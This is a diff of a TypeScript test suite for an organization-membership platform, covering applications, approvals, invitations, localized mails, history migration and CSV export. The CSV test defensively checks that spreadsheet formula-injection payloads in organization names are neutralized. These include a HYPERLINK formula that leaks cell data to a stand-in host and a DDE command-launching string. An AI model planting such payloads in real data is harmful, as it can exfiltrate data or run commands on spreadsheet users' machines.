@@ -5,7 +5,10 @@ import { createTestContext, DIALECTS, lastMail, signUpAndIn, type TestContext, t
 import { canActFor, designatedVoter, isMemberInGoodStanding, memberCountsByCountry, organizationsOfUser } from './index.js';
 import { hashToken, createInvitation, acceptInvitation } from './commands/people.js';
 import { transition } from './commands/lifecycle.js';
-import { makeOrganization } from './factories.js';
+import { makeOrganization, addPerson } from './factories.js';
+import { orgHistory } from './commands/history.js';
+import { mailContext } from './commands/mail.js';
+import { addBodyMember } from '../bodies/index.js';
 
 const APPLY = {
   name: 'Red Migrante del Sur',
@@ -79,17 +82,18 @@ describe.each(DIALECTS)('membership on %s', (dialect) => {
     anaId = user.id;
     expect(Boolean(user.email_verified)).toBe(false);
     expect((await organizationsOfUser(ctx.db, anaId))[0]?.id).toBe(orgId);
-    expect((await lastMail(ctx, 'admin@test.local'))?.kind).toBe('membership-application');
-    const history = await ctx.db.selectFrom('membership_history').select('action').where('org_id', '=', orgId).execute();
-    expect(history.map((h) => h.action)).toEqual(['applied']);
+    expect((await lastMail(ctx, 'admin@test.local'))?.kind).toBe('membership.applied');
+    const history = await orgHistory(ctx.db, orgId);
+    expect(history.map((h) => h.step)).toEqual(['applied']);
+    expect(history[0]).toMatchObject({ action: 'membership.applied', actorId: anaId, to: 'applicant', changes: { name: APPLY.name, country: 'CL' } });
   });
 
   it('catches a second application for the same organization and points to it', async () => {
     const r = await ctx.client().post('/es/join', { ...APPLY, email: 'otra@rms.example', website: '' });
-    expect(r.status).toBe(409);
+    expect(r.status).toBe(422);
     expect(await r.text()).toContain('Red Migrante del Sur ya presentó una solicitud');
     const bySite = await ctx.client().post('/en/join', { ...APPLY, name: 'Otro nombre', country: 'PE', email: 'x@rms.example', website: 'https://www.redmigrante.example.org/' });
-    expect(bySite.status).toBe(409);
+    expect(bySite.status).toBe(422);
     expect(await ctx.db.selectFrom('users').select('id').where('email', '=', 'otra@rms.example').executeTakeFirst()).toBeUndefined();
   });
 
@@ -101,7 +105,7 @@ describe.each(DIALECTS)('membership on %s', (dialect) => {
     const ask = await admin.post(`/es/admin/organizations/${orgId}/request-info`, { reason_request_info: 'Falta el acta constitutiva.' });
     expect(ask.status).toBe(303);
     const mail = await lastMail(ctx, APPLY.email);
-    expect(mail?.kind).toBe('membership-request_info');
+    expect(mail?.kind).toBe('membership.infoRequested');
     expect(mail?.text_body).toContain('Falta el acta constitutiva.');
     const page = await (await ana.get(`/es/organizations/${orgId}`)).text();
     expect(page).toContain('Falta el acta constitutiva.');
@@ -119,10 +123,14 @@ describe.each(DIALECTS)('membership on %s', (dialect) => {
     expect((await admin.post(`/es/admin/organizations/${orgId}/approve`)).status).toBe(303);
     expect(await isMemberInGoodStanding(ctx.db, orgId)).toBe(true);
     expect(await designatedVoter(ctx.db, orgId)).toBe(anaId);
-    const history = (await ctx.db.selectFrom('membership_history').select('action').where('org_id', '=', orgId).orderBy('at').execute()).map((h) => h.action);
+    const history = (await orgHistory(ctx.db, orgId)).map((h) => h.step);
     expect(history).toEqual(['applied', 'info_requested', 'profile_updated', 'resubmitted', 'approved']);
     const review = await (await admin.get(`/es/admin/organizations/${orgId}`)).text();
     expect(review).toContain('Falta el acta constitutiva.');
+    // The history section reads the platform's history: every step, who took it and the status it led to.
+    expect(review).toContain('Se pidió más información');
+    expect(review).toContain('Aprobada');
+    expect((await lastMail(ctx, 'admin@test.local'))?.kind).toBe('membership.resubmitted');
     // A second approval is refused: status changed.
     const again = await admin.post(`/es/admin/organizations/${orgId}/approve`);
     expect(again.status).toBe(403);
@@ -162,7 +170,7 @@ describe.each(DIALECTS)('membership on %s', (dialect) => {
     expect((await luis.post(`/es/invitations/${link}`)).status).toBe(303);
     expect(await canActFor(ctx.db, luisId, orgId)).toBe(true);
     const reused = await luis.post(`/en/invitations/${link}`);
-    expect(reused.status).toBe(410);
+    expect(reused.status).toBe(422);
     expect(await reused.text()).toContain('already used');
     // An expired one.
     await ana.post(`/es/organizations/${orgId}/invitations`, { email: 'old@rms.example' });
@@ -267,12 +275,23 @@ describe.each(DIALECTS)('membership on %s', (dialect) => {
   });
 
   it('filters by body and pages the API', async () => {
+    // Mesa membership is bodies' (body_members): an approved member of the Mesa shows under its filter.
     const body = await ctx.db.selectFrom('bodies').select(['id', 'slug']).orderBy('position').executeTakeFirstOrThrow();
-    const o = await makeOrganization(ctx.db, { name: 'Organización de la Mesa', status: 'member' });
-    await ctx.db.insertInto('organization_bodies').values({ org_id: o.id, body_id: body.id }).execute();
+    const o = await makeOrganization(ctx.db, { name: 'Organización de la Mesa', status: 'member', public_fields: JSON.stringify(['bodies']) });
+    await addBodyMember(ctx.db, body.id, o.id);
     const html = await (await ctx.client().get(`/es/members?body=${body.slug}`)).text();
     expect(html).toContain('Organización de la Mesa');
     expect(html).not.toContain('Colectivo Frontera');
+    expect(html).toContain('Organizaciones encontradas: 1');
+    const byBody: any = await (await ctx.client().get(`/api/v1/organizations?body=${body.slug}`)).json();
+    expect(byBody.data.map((x: { name: string }) => x.name)).toEqual(['Organización de la Mesa']);
+    const unknown = await (await ctx.client().get('/es/members?body=no-such-mesa')).text();
+    expect(unknown).not.toContain('Organización de la Mesa');
+    // Its page and the API list the Mesa, as bodies keeps it.
+    const page = await (await ctx.client().get(`/es/members/${o.slug}`)).text();
+    expect(page).toContain(`/es/bodies/${body.slug}`);
+    const one: any = await (await ctx.client().get(`/api/v1/organizations/${o.slug}`)).json();
+    expect(one.data.bodies).toEqual([body.slug]);
     const api: any = await (await ctx.client().get('/api/v1/organizations?perPage=1&page=2&sort=name')).json();
     expect(api.data).toHaveLength(1);
     expect(api.meta.page).toBe(2);
@@ -282,16 +301,16 @@ describe.each(DIALECTS)('membership on %s', (dialect) => {
   it('lets only one of two simultaneous reviewers act, and uses an invitation once under concurrency', async () => {
     const adminUser = { id: 'admin-x', name: 'A', email: 'a@x', role: 'admin' as const, locale: null, emailVerified: true };
     const o = await makeOrganization(ctx.db, { name: 'Concurrente', status: 'applicant' });
+    const mail = mailContext(ctx.deps);
     const results = await Promise.all([
-      ctx.db.transaction().execute((trx) => transition(trx, adminUser, o.id, 'approve')),
-      ctx.db.transaction().execute((trx) => transition(trx, adminUser, o.id, 'decline', 'No')),
+      ctx.db.transaction().execute((trx) => transition(trx, mail, adminUser, o.id, 'approve')),
+      ctx.db.transaction().execute((trx) => transition(trx, mail, adminUser, o.id, 'decline', 'No')),
     ]);
     expect(results.filter((r) => r.ok)).toHaveLength(1);
-    const steps = await ctx.db.selectFrom('membership_history').select('action').where('org_id', '=', o.id).execute();
-    expect(steps).toHaveLength(1);
+    expect(await orgHistory(ctx.db, o.id)).toHaveLength(1);
 
     await ctx.db.updateTable('organizations').set({ status: 'member' }).where('id', '=', o.id).execute();
-    const inv = await createInvitation(ctx.db, adminUser, o.id, 'two@x.example');
+    const inv = await createInvitation(ctx.db, mail, adminUser, o.id, 'two@x.example');
     if (!inv.ok) throw new Error('no invitation');
     const { userId: u1 } = await signUpAndIn(ctx, 'race1@x.example');
     const { userId: u2 } = await signUpAndIn(ctx, 'race2@x.example');
@@ -300,5 +319,91 @@ describe.each(DIALECTS)('membership on %s', (dialect) => {
     expect(accepted.filter((r) => r.ok)).toHaveLength(1);
     const people = await ctx.db.selectFrom('organization_people').select('user_id').where('org_id', '=', o.id).execute();
     expect(people).toHaveLength(1);
+  });
+});
+
+describe.each(DIALECTS)('membership mails, CSV and history migration on %s', (dialect) => {
+  let ctx: TestContext;
+  let admin: TestClient;
+  beforeAll(async () => {
+    ctx = await createTestContext(dialect);
+    admin = await ctx.admin();
+  });
+  afterAll(() => ctx.close());
+
+  it('tells each person of the organization in their own language, inside the step', async () => {
+    const o = await makeOrganization(ctx.db, { name: 'Rede Lusófona', status: 'member' });
+    const pt = await signUpAndIn(ctx, 'pt@rede.example', 'Pessoa');
+    const es = await signUpAndIn(ctx, 'es@rede.example', 'Persona');
+    await ctx.db.updateTable('users').set({ locale: 'pt' }).where('id', '=', pt.userId).execute();
+    await addPerson(ctx.db, o.id, pt.userId, { voter: true });
+    await addPerson(ctx.db, o.id, es.userId);
+    expect((await admin.post(`/en/admin/organizations/${o.id}/suspend`, { reason_suspend: 'Motivo' })).status).toBe(303);
+    const toPt = await lastMail(ctx, 'pt@rede.example');
+    const toEs = await lastMail(ctx, 'es@rede.example');
+    expect(toPt?.kind).toBe('membership.suspended');
+    expect(toPt?.subject).toBe('Rede Lusófona foi suspensa');
+    expect(toPt?.text_body).toContain(`/pt/organizations/${o.id}`);
+    expect(toEs?.subject).toContain('Rede Lusófona');
+    expect(toEs?.text_body).toContain(`/es/organizations/${o.id}`);
+    // A refused step (wrong status now) writes no mail: it rolls back with the step.
+    const before = (await ctx.db.selectFrom('outbox').select('id').execute()).length;
+    expect((await admin.post(`/es/admin/organizations/${o.id}/suspend`, { reason_suspend: 'Otra vez' })).status).toBe(403);
+    expect((await ctx.db.selectFrom('outbox').select('id').execute()).length).toBe(before);
+  });
+
+  it('writes formula-looking names as text in the CSV export', async () => {
+    const evil = ['=HYPERLINK("http://evil.test/?leak="&B2,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1-2', '-3+4'];
+    for (const name of evil) await makeOrganization(ctx.db, { name, city: '\tTab', website: '=1+1' });
+    const r = await admin.get('/es/admin/organizations.csv');
+    expect(r.status).toBe(200);
+    const text = await r.text();
+    const { parse } = await import('csv-parse/sync');
+    const rows: string[][] = parse(text.replace(/^\uFEFF/, ''));
+    const cells = rows.slice(1).flat();
+    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    const names = rows.slice(1).map((row) => row[0]);
+    expect(names).toContain(`'=HYPERLINK("http://evil.test/?leak="&B2,"x")`);
+    expect(names).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+  });
+
+  it('moves membership_history into the one history, once per step, and drops the copy of Mesa membership', async () => {
+    const history = await import('./migrations/2026_12_02_0610_membership_history_to_audit.js');
+    const bodies = await import('./migrations/2026_12_02_0600_membership_drop_organization_bodies.js');
+    const db = ctx.db as any;
+    const o = await makeOrganization(ctx.db, { name: 'Historia', status: 'member' });
+    const adminId = (await ctx.db.selectFrom('users').select('id').where('role', '=', 'admin').executeTakeFirstOrThrow()).id;
+    await history.down(db);
+    await bodies.down(db);
+    await db.insertInto('organization_bodies').values({ org_id: o.id, body_id: 'x' }).execute();
+    await db
+      .insertInto('membership_history')
+      .values([
+        { id: 'h1aaaaaaaaaaaaaa', org_id: o.id, at: '2025-01-01T10:00:00.000Z', actor_id: null, action: 'imported', from_status: null, to_status: 'member', note: 'old.csv', changes: null },
+        { id: 'h2aaaaaaaaaaaaaa', org_id: o.id, at: '2025-02-01T10:00:00.000Z', actor_id: adminId, action: 'profile_updated', from_status: null, to_status: null, note: null, changes: '["name","city"]' },
+      ])
+      .execute();
+    // The second step was also written to the audit log at the time (its twin, a millisecond later).
+    await db
+      .insertInto('audit_log')
+      .values({ id: 'twinaaaaaaaaaaa', at: '2025-02-01T10:00:00.001Z', actor_id: adminId, action: 'membership.profile_updated', subject_type: 'organization', subject_id: o.id, data: '{"changes":["name","city"]}' })
+      .execute();
+    await bodies.up(db);
+    await history.up(db);
+    const rows = await ctx.db.selectFrom('audit_log').selectAll().where('subject_id', '=', o.id).orderBy('at').execute();
+    expect(rows.map((r) => [r.id, r.at, r.actor_id, r.action, r.subject_type, r.data])).toEqual([
+      ['h1aaaaaaaaaaaaaa', '2025-01-01T10:00:00.000Z', null, 'membership.imported', 'organization', '{"to":"member","note":"old.csv"}'],
+      ['h2aaaaaaaaaaaaaa', '2025-02-01T10:00:00.000Z', adminId, 'membership.profile_updated', 'organization', '{"changes":["name","city"]}'],
+    ]);
+    const steps = await orgHistory(ctx.db, o.id);
+    expect(steps.map((s) => [s.step, s.to, s.note, s.changes])).toEqual([
+      ['imported', 'member', 'old.csv', undefined],
+      ['profile_updated', null, null, ['name', 'city']],
+    ]);
+    const page = await (await admin.get(`/es/admin/organizations/${o.id}`)).text();
+    expect(page).toContain('old.csv');
+    expect(page).toContain('name, city');
+    await expect(db.selectFrom('membership_history').selectAll().execute()).rejects.toThrow();
+    await expect(db.selectFrom('organization_bodies').selectAll().execute()).rejects.toThrow();
   });
 });
